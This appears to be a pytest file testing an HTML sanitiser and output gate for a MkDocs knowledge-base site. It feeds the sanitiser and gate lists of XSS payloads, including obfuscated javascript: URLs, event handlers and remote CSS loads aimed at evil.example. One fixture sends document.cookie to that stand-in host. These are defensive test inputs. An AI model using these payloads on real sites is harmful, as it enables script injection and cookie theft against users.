"""The output gate and the sanitiser: what may reach the site, by allow list.

Unit tests feed the gate (checks.site.gate) files it must refuse, one class of
attack each, and the example's real build, which it must pass. Build tests
write hostile pages into a small knowledge base and read every byte MkDocs
writes. The browser half (script runs, requests off the host) is in
tests/test_redteam.py, on a corpus written apart from this code.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import material
import pytest

from checks.model.publication import VENDORED
from checks.site.gate import Gate
from checks.site.sanitise import clean_content, page_meta, plain
from kbfactory import compliant, write
from sitehelp import REPO, mkdocs, write_site_config

THEME = Path(material.__file__).parent / "templates"


@pytest.fixture(scope="module")
def gate() -> Gate:
    return Gate(THEME, vendored=VENDORED)


# -- the sanitiser ---------------------------------------------------------------

RUNS = [
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<p onclick="alert(1)">p</p>',
    '<img src="x.png"\nonerror="alert(1)">',
    "<svg/onload=alert(1)>",
    "<details/open/ontoggle=alert(1)>",
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example/"><button>Go</button></form>',
    '<object data="https://evil.example/x.swf"></object>',
]

LOADS = [
    '<img src="https://evil.example/a.png">',
    '<img src="//evil.example/a.png">',
    '<img src="\\\\evil.example/a.png">',
    '<img src="a.png" srcset="https://evil.example/b.png 2x">',
    '<video poster="https://evil.example/p.png"></video>',
    '<link rel="stylesheet" href="https://evil.example/s.css">',
    "<style>@import url(https://evil.example/s.css);</style>",
    '<p style="background:url(https://evil.example/x.png)">p</p>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<svg><use href="https://evil.example/i.svg#a"></use></svg>',
]


@pytest.mark.parametrize("markup", RUNS + LOADS)
def test_the_sanitiser_leaves_nothing_that_runs_or_loads(markup, gate):
    cleaned = clean_content(markup)
    lowered = cleaned.lower()
    assert "evil.example" not in lowered and "javascript" not in lowered
    assert "alert" not in lowered or "<" not in cleaned.split("alert")[0][-40:], cleaned
    # What is left passes the gate as a page body would.
    assert list(gate.html(cleaned, "x.html", fragment=True)) == []


def test_the_sanitiser_keeps_what_pages_are_written_with():
    page = (
        '<h2 id="why">Why</h2><p>See <a href="../procedures/escalation/">the procedure</a> and '
        '<a href="https://www.gov.uk/">GOV.UK</a>.</p>'
        '<div class="admonition warning"><p class="admonition-title">Note</p></div>'
        '<table><thead><tr><th style="text-align: center;">A</th></tr></thead></table>'
        '<img src="../assets/chart.png" alt="Chart"><nav aria-label="Map"><ul><li>x</li></ul></nav>'
    )
    cleaned = clean_content(page)
    for kept in (
        'id="why"',
        'href="../procedures/escalation/"',
        'href="https://www.gov.uk/"',
        'class="admonition warning"',
        "text-align:center",
        'src="../assets/chart.png"',
        'aria-label="Map"',
    ):
        assert kept in cleaned, kept


def test_ids_the_theme_looks_up_cannot_be_taken_by_a_page():
    assert clean_content('<h2 id="__config">x</h2>') == "<h2>x</h2>"
    assert 'id="md-main"' not in clean_content('<p id="md-main">x</p>')


def test_front_matter_reaches_the_theme_as_plain_text_and_only_known_keys():
    meta, dropped = page_meta(
        {
            "title": ["</title><script>alert(1)</script>"],
            "description": '"><script>alert(1)</script>',
            "author": "<script>",
            "template": "redirect.html",
            "location": "javascript:alert(1)",
            "hide": ["toc", "<script>"],
            "search": {"exclude": False, "boost": "9; x"},
        }
    )
    assert "title" not in meta and "title" in dropped  # a list is not a title
    assert meta["description"] == "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"
    assert {"author", "template", "location"} <= set(dropped)
    assert meta["hide"] == ["toc"] and meta["search"] == {"exclude": False}


def test_plain_escapes_once_whatever_it_is_given():
    assert plain("</title><script>") == "&lt;/title&gt;&lt;script&gt;"
    assert plain("Fish &amp; chips") == "Fish &amp; chips"
    assert plain("&lt;b&gt;") == "&lt;b&gt;"


# -- the gate on single files -------------------------------------------------------


def _page(body: str) -> str:
    return f"<!doctype html><html><head><title>t</title></head><body>{body}</body></html>"


@pytest.mark.parametrize("markup", RUNS + LOADS)
def test_the_gate_refuses_each_kind_of_attack_in_a_page(markup, gate):
    assert list(gate.file("page/index.html", _page(markup).encode())), markup


@pytest.mark.parametrize(
    ("name", "data", "why"),
    [
        ("x.js", b"alert(1)", "not the theme's own"),
        ("a.txt", b"Jessica Smith, 12 Elm Road", "does not publish"),
        ("a.html", b"<script>alert(1)</script>", "inline script"),
        ("i.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "event"),
        (
            "i.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "<script>",
        ),
        ("s.css", b"@import url('https://evil.example/x.css');", "@import"),
        ("s.css", b"p{background:url(//evil.example/x.png)}", "loads"),
        # escapes are decoded as a browser decodes them
        ("s.css", rb'@\69mport "https://evil.example/x.css";', "@import"),
        ("s.css", rb"p{background:\75 rl(https://evil.example/x.png)}", "loads"),
        # a string inside an image function is a URL, with no url() around it
        ("s.css", b'p{background:image-set("https://evil.example/x.png" 1x)}', "loads"),
        ("s.css", b"@font-face{font-family:f;src:url(f.woff2)}", "@font-face"),
        ("s.css", b"p{width:expression(alert(1))}", "script"),
        (
            "i.svg",
            b'<?xml-stylesheet href="https://evil.example/a.css"?>'
            b'<svg xmlns="http://www.w3.org/2000/svg"/>',
            "processing instruction",
        ),
        ("p.png", b"<html><script>alert(1)</script>", "image"),
        ("calendar.ics", b"BEGIN:VCALENDAR\r\nURL:https://evil.example/\r\n", "URL"),
        ("sitemap.xml", b"<urlset><url><loc>https://evil.example/</loc></url></urlset>", "lists"),
        ("tags.json", b'{"a": "<img src=x onerror=alert(1)>"}', "markup"),
    ],
)
def test_the_gate_refuses_files_that_are_not_allowed(name, data, why, gate):
    found = list(gate.file(name, data))
    assert any(why in f for f in found), found


@pytest.mark.parametrize(
    "sheet",
    [
        b"p{color:#333} @media print{nav{display:none}}",
        b"p{background:url(../img/x.png) no-repeat}",
        b"@supports (display:grid){main{display:grid}}",
    ],
)
def test_the_gate_passes_style_sheets_that_load_only_the_sites_own_files(sheet, gate):
    assert list(gate.file("s.css", sheet)) == []


def test_inline_scripts_pass_only_as_the_theme_writes_them(gate):
    ours = '<script>__md_scope=new URL("../..",location),__md_hash=e=>[...e].reduce'
    theme = (THEME / "partials/javascripts/base.html").read_text()
    real = theme.split("<script>", 1)[1].split("</script>", 1)[0]
    good = real.replace("{{ config.extra.scope | d(base_url) }}", "../..")
    assert list(gate.html(_page(f"<script>{good}</script>"), "p.html")) == []
    bad = real.replace("{{ config.extra.scope | d(base_url) }}", '",alert(1),"')
    assert list(gate.html(_page(f"<script>{bad}</script>"), "p.html"))
    assert list(gate.html(_page(ours + "</script>"), "p.html"))


def test_the_search_index_loses_only_the_entries_that_fail(tmp_path, gate):
    index = {
        "config": {},
        "docs": [
            {"location": "ok/", "title": "Fine", "text": "<p>Plain text</p>"},
            {"location": "bad/", "title": "x", "text": "<img src=x onerror=alert(1)>"},
        ],
    }
    (tmp_path / "search").mkdir()
    (tmp_path / "search/search_index.json").write_text(json.dumps(index))
    (violation,) = gate.inspect(tmp_path)
    assert violation.locations == ("bad/",)


def test_the_example_site_passes_the_gate(tmp_path, gate):
    proc = mkdocs(REPO, tmp_path / "site")
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert gate.inspect(tmp_path / "site") == []
    assert (tmp_path / "site/index.html").is_file()


# -- the build: publication by the record, allow-listed files ------------------------------


def _kb(tmp_path: Path, extra: dict) -> Path:
    files = compliant()
    files.update(extra)
    return write_site_config(write(tmp_path / "kb", files))


def _published(site: Path) -> str:
    return "\n".join(
        p.read_bytes().decode("utf-8", "replace") for p in sorted(site.rglob("*")) if p.is_file()
    )


BRIEF_FRONT = {
    "id": "LB-2026-09",
    "title": "Held back SECRET-TITLE-1",
    "review": "CSPR-2026-01",
    "themes": ["neglect"],
    "audience": {"agencies": ["school"], "roles": ["teachers"]},
    "status": "published",
    "publish_on": "2027-03-01",
    "review_by": "2028-03-01",
}


@pytest.mark.slow
def test_drafts_and_embargoes_are_withheld_wherever_and_however_saved(tmp_path):
    embargoed = (BRIEF_FRONT, "# Held back\n\nSECRET-BODY-1\n")
    draft = ({**BRIEF_FRONT, "status": "draft", "publish_on": "2026-01-01"}, "SECRET-BODY-2\n")
    root = _kb(
        tmp_path,
        {
            "docs/briefs/2026/fnm-nested.md": embargoed,
            "docs/briefs/fnm-upper.MD": draft,
            "docs/briefs/fnm-long.markdown": embargoed,
            "docs/notes/fnm-plain-draft.md": ({"status": "draft"}, "SECRET-BODY-3\n"),
            "docs/notes/marked.md": ({"draft": True}, "SECRET-BODY-4\n"),
            "docs/notes/bad-date.md": ({"publish_on": "soon"}, "SECRET-BODY-5\n"),
            "docs/notes/fine.md": ({"title": "Fine"}, "# Fine\n\nPUBLIC-BODY\n"),
        },
    )
    proc = mkdocs(root, tmp_path / "site")
    assert proc.returncode == 0, proc.stderr[-3000:]
    out = _published(tmp_path / "site")
    assert "PUBLIC-BODY" in out and (tmp_path / "site/briefs/lb-2026-01/index.html").is_file()
    for secret in ("SECRET-BODY-", "SECRET-TITLE-", "fnm-"):
        assert secret not in out, secret
    assert "SECRET" not in proc.stderr + proc.stdout


@pytest.mark.slow
def test_only_allowed_static_files_and_no_links_are_published(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "host.md").write_text("# Host\n\nOUTSIDE-SECRET\n")
    root = _kb(
        tmp_path,
        {
            "docs/notes/a.txt": "TXT-SECRET\n",
            "docs/notes/b.html": "<script>alert('HTML-SECRET')</script>",
            "docs/notes/c.js": "alert('JS-SECRET')",
            "docs/notes/ok.css": "p { color: red }",
            "docs/notes/bad.css": "@import url('https://evil.example/CSS-SECRET.css');",
        },
    )
    os.symlink(outside, root / "docs/linked")
    os.symlink(root / "kb.yaml" if (root / "kb.yaml").exists() else outside, root / "docs/k.css")
    proc = mkdocs(root, tmp_path / "site")
    out = _published(tmp_path / "site")
    for secret in ("TXT-SECRET", "HTML-SECRET", "JS-SECRET", "OUTSIDE-SECRET", "CSS-SECRET"):
        assert secret not in out, secret
    assert (tmp_path / "site/notes/ok.css").is_file()
    assert not (tmp_path / "site/linked").exists() and not (tmp_path / "site/k.css").exists()
    # The style sheet that loads from elsewhere is an allowed type, so it reaches the
    # gate, which withholds it, naming it (never the address); the rest is served.
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert "notes/bad.css" in proc.stderr and "withheld" in proc.stderr
    assert "CSS-SECRET" not in proc.stderr and "evil.example" not in proc.stderr
    assert "docs/notes/a.txt is not published" in proc.stderr
    assert (tmp_path / "site/index.html").is_file()
    # A strict build (CI) fails: here already on the SEC004 findings, before writing.
    assert mkdocs(root, tmp_path / "strict", "--strict").returncode == 1


@pytest.mark.slow
def test_a_theme_override_that_adds_script_fails_the_build_and_is_withheld(tmp_path):
    root = _kb(tmp_path, {})
    overrides = root / "overrides"
    (overrides / "partials").mkdir(parents=True)
    (overrides / "partials/copyright.html").write_text(
        "<script>fetch('https://evil.example/'+document.cookie)</script>"
    )
    config = (
        (root / "mkdocs.yml")
        .read_text()
        .replace("  name: material\n", "  name: material\n  custom_dir: overrides\n")
    )
    (root / "mkdocs.yml").write_text(config)
    proc = mkdocs(root, tmp_path / "site")
    assert "inline script that is not one of the theme's own" in proc.stderr
    assert "evil.example" not in _published(tmp_path / "site")
    strict = mkdocs(root, tmp_path / "strict", "--strict")
    assert strict.returncode == 1 and "failed the output gate" in strict.stderr + strict.stdout


@pytest.mark.slow
def test_hostile_front_matter_and_headings_do_not_become_markup(tmp_path):
    root = _kb(
        tmp_path,
        {
            "docs/notes/a.md": (
                {
                    "title": "</title><script>alert('T')</script>",
                    "description": '"><script>alert("D")</script>',
                    "template": "redirect.html",
                    "location": "javascript:alert('L')",
                },
                "Text.\n",
            ),
            # Escaped markup in the first heading becomes the title: shown as text.
            "docs/notes/b.md": "# &lt;/title&gt;&lt;b&gt;Bold&lt;/b&gt;\n\nText\n",
            # Script in a heading, even written with character references, and a
            # handler through an attribute list: SEC001 withholds the page.
            "docs/notes/c.md": "# &lt;/title&gt;&lt;script&gt;alert('H')&lt;/script&gt;\n",
            "docs/notes/d.md": "# Heading\n\n[a](https://example.org){ onclick=\"alert('A')\" }\n",
        },
    )
    proc = mkdocs(root, tmp_path / "site")
    assert proc.returncode == 0, proc.stderr[-3000:]
    for page in ("a", "b"):
        text = (tmp_path / f"site/notes/{page}/index.html").read_text()
        assert "<script>alert(" not in text and "</title><b>" not in text, page
        assert "window.location.replace" not in text
    assert "&lt;/title&gt;&lt;b&gt;Bold" in (tmp_path / "site/notes/b/index.html").read_text()
    assert not (tmp_path / "site/notes/c").exists() and not (tmp_path / "site/notes/d").exists()
    assert Gate(THEME, vendored=VENDORED).inspect(tmp_path / "site") == []


@pytest.mark.slow
def test_error_findings_fail_a_strict_build_whatever_the_log_level_and_write_nothing(tmp_path):
    files = compliant()
    files["data/actions/CSPR-2026-01.yaml"]["actions"][1]["due"] = "2026-11-01"
    root = write_site_config(write(tmp_path / "kb", files))
    for flag in ("-q", "-v"):
        site = tmp_path / f"site{flag}"
        proc = mkdocs(root, site, "--strict", flag)
        assert proc.returncode == 1, flag
        assert "kb errors in strict mode" in proc.stderr + proc.stdout
        assert not (site / "index.html").exists()


@pytest.mark.slow
def test_the_checks_read_the_docs_folder_the_site_is_built_from(tmp_path):
    root = _kb(tmp_path, {"kb.yaml": "docs_dir: elsewhere\n", "elsewhere/index.md": "# Clean\n"})
    from checks.loading import load
    from checks.rules.engine import run
    from kbfactory import TODAY

    kb = load(root)
    assert kb.config.docs_dir == "docs"
    found = [f for f in run(kb, TODAY).findings if f.file == "kb.yaml"]
    assert any("mkdocs.yml builds the site from 'docs'" in f.message for f in found), found


def test_generated_pages_never_name_a_withheld_tor_or_procedure(tmp_path):
    from checks.loading import load
    from checks.rules.engine import run
    from checks.site.build import SiteBuild
    from kbfactory import TODAY

    files = compliant()
    front, body = files["docs/tor/panel.md"]
    files["docs/tor/panel.md"] = (
        {**front, "title": "GROUP-SECRET"},
        body + "\n<script>x</script>\n",
    )
    front, body = files["docs/procedures/rapid-review.md"]
    files["docs/procedures/draft.md"] = (
        {**front, "title": "PROC-SECRET", "status": "draft"},
        body,
    )
    root = write(tmp_path / "kb", files)
    kb = load(root)
    build = SiteBuild(kb, run(kb, TODAY), TODAY)
    assert "tor/panel.md" not in build.pages and "procedures/draft.md" not in build.pages
    pages = build.generated()
    for name, text in pages.items():
        assert "GROUP-SECRET" not in text and "PROC-SECRET" not in text, name
    shown, held = build.visible_findings()
    # The withheld ToR's findings are counted only; the procedure did not load
    # (procedures have no `status`), so its KB003 is shown, never its title.
    assert held and not [f for f in shown if f.file.endswith("panel.md")]
    assert not [f for f in shown if "PROC-SECRET" in f.message]


def test_a_page_saved_with_an_upper_case_suffix_is_neither_published_nor_linked(tmp_path):
    from checks.loading import load
    from checks.rules.engine import run
    from checks.site.build import SiteBuild
    from kbfactory import TODAY

    files = compliant()
    files["docs/briefs/lb-2026-01.MD"] = files.pop("docs/briefs/lb-2026-01.md")
    kb = load(write(tmp_path / "kb", files))
    result = run(kb, TODAY)
    build = SiteBuild(kb, result, TODAY)
    # MkDocs copies a .MD file as it is, not as a page: the site must not link to it.
    assert "briefs/lb-2026-01.MD" not in build.pages and build.public == []
    assert "lb-2026-01" not in build.generated()["register.md"]
    # Reported, without the name: an unpublished brief's findings never name it.
    assert [f.file for f in result.findings if f.code == "SEC004"] == [
        "docs/briefs/(unpublished LB-2026-01)"
    ]


def test_a_label_or_name_with_an_identifying_detail_is_shown_as_its_id(tmp_path):
    from checks.loading import load
    from checks.rules.engine import run
    from checks.site.build import SiteBuild
    from kbfactory import TODAY

    files = compliant()
    files["data/themes.yaml"]["themes"][0]["label"] = "Neglect 943 476 5919"
    files["data/partnership.yaml"]["agencies"][3]["name"] = (
        "Testshire Schools, ask Jessica Smith on 07700 900123"
    )
    kb = load(write(tmp_path / "kb", files))
    result = run(kb, TODAY)
    assert {f.subject for f in result.findings if f.code == "ANO001"} >= {"neglect", "school"}
    build = SiteBuild(kb, result, TODAY)
    pages = {**build.generated(), "brief": build.decorate("briefs/lb-2026-01.md", "# A brief\n")}
    for name, text in pages.items():
        assert "943 476 5919" not in text and "07700 900123" not in text, name
    assert build.tags("briefs/lb-2026-01.md") == ["neglect"]


@pytest.mark.parametrize(
    ("body", "line"),
    [
        ("<img/src=x/onerror=alert(1)>", 1),
        ("<svg/onload=alert(1)>", 1),
        ("Intro\n<img src=x\nonerror=alert(1)>", 3),
        ("[x](jav&#x61;script:alert(1))", 1),
        ("[x](javascript&colon;alert(1))", 1),
        ('![x" onerror="alert(1)](a.png)', 1),
        ('[a](https://example.org){ onclick="alert(1)" }', 1),
    ],
)
def test_sec001_finds_markup_the_way_a_browser_reads_it(body, line):
    from checks.rules.sec001_unsafe_markup import findings_in

    assert [at for at, _ in findings_in(body, 1)] == [line]


def test_sec001_leaves_prose_and_code_alone():
    from checks.rules.sec001_unsafe_markup import findings_in

    prose = "Parents went online = more time.\n\n    <img src=x onerror=alert(1)>\n"
    assert list(findings_in(prose, 1)) == []


@pytest.mark.slow
def test_a_language_model_that_does_not_load_stops_the_build_in_one_line(tmp_path, monkeypatch):
    monkeypatch.setenv("KB_NLP_MODEL", "no_such_pipeline")
    monkeypatch.setenv("KB_NO_CACHE", "1")
    root = _kb(tmp_path, {})
    proc = mkdocs(root, tmp_path / "site")
    assert proc.returncode == 1
    assert "the language model 'no_such_pipeline'" in proc.stderr
    assert "Traceback" not in proc.stderr + proc.stdout
    assert not (tmp_path / "site/index.html").exists()


def test_a_name_in_a_page_file_name_is_found_and_the_page_withheld(tmp_path):
    from checks.loading import load
    from checks.rules.engine import run
    from checks.site.build import SiteBuild
    from kbfactory import TODAY

    files = compliant()
    files["docs/notes/kacper-nowak-and-amira-el-sayed.md"] = "# Notes\n\nGeneral text.\n"
    kb = load(write(tmp_path / "kb", files))
    result = run(kb, TODAY)
    found = [f for f in result.findings if f.code == "ANO001"]
    assert [f.file for f in found] == ["docs/notes/kacper-nowak-and-amira-el-sayed.md"]
    build = SiteBuild(kb, result, TODAY)
    assert "notes/kacper-nowak-and-amira-el-sayed.md" not in build.pages
